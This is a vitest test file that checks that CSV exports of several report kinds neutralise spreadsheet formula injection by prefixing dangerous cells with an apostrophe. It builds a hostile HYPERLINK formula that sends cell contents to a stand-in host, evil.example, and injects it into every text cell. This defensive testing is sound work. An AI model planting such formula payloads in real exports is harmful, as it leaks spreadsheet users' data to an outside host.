import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildReport } from '../../shared/reports/buildReport';
import { exportReportText } from '../../shared/reports/exportReport';
import { lastHeardFrom } from '../../shared/reports/lastHeardFrom';
import { renderReportCsv } from '../../shared/reports/renderCsv';
import { loadReportData, type ReportData } from '../../shared/reports/reportData';
import type { ReportContext } from '../../shared/reports/reportInputs';
import { reportKindIds, type ReportKind, type ReportRequest } from '../../shared/reports/reportKinds';
import type { ReportLocale, ReportModel } from '../../shared/reports/reportModel';
import { buildReportsFixture, reportLocale, type ReportsFixture } from './reportsFixture';

/*
 * CSV exports never hand a spreadsheet a formula: every report kind's CSV, with every text cell
 * made to start as a formula would (what a member could type as a title or a name), is parsed
 * back and no cell starts with = + - @ tab or carriage return; such a cell reads with a leading
 * apostrophe and is otherwise kept.
 */

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];
const hostile = (index: number, cell: string) => `${TRIGGERS[index % TRIGGERS.length]}HYPERLINK("http://evil.example/?"&A1,"${cell}")`;

describe('CSV exports neutralize formulas', { timeout: 120_000 }, () => {
  let fixture: ReportsFixture;
  let data: ReportData;
  let en: ReportLocale;

  beforeAll(async () => {
    [fixture, en] = await Promise.all([buildReportsFixture(), reportLocale('en')]);
    data = await loadReportData(fixture.client);
  });

  afterAll(async () => {
    await fixture?.close();
  });

  const requestOf = (kind: ReportKind): ReportRequest =>
    ({
      digest: { kind: 'digest', options: { groupBy: 'kind' } },
      contributions: { kind: 'contributions', options: {} },
      'org-profile': { kind: 'org-profile', options: { orgId: fixture.orgIds.gardens } },
      'decision-record': { kind: 'decision-record', options: { proposalId: fixture.proposalId } },
    })[kind] as ReportRequest;

  it.each(reportKindIds)('writes the %s report with no formula cell, however its text starts', async (kind) => {
    const context: ReportContext = { data, locale: en, now: fixture.now, lastSyncAt: lastHeardFrom(data, fixture.now), lastSyncSource: 'derived' };
    const model = buildReport(context, requestOf(kind));
    let n = 0;
    const poisoned: ReportModel = {
      ...model,
      table: { columns: model.table.columns.map((c) => hostile(n++, c)), rows: model.table.rows.map((row) => row.map((cell) => (typeof cell === 'string' ? hostile(n++, cell) : cell))) },
    };
    for (const csv of [renderReportCsv(poisoned.table), await exportReportText(poisoned, 'csv', { pause: async () => undefined, valueLabel: 'n' })]) {
      const cells = (parse(csv.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][]).flat();
      expect(cells.length).toBeGreaterThan(model.table.columns.length);
      expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
      expect(cells.filter((cell) => cell.includes('HYPERLINK')).every((cell) => cell.startsWith("'"))).toBe(true);
    }
  });
});
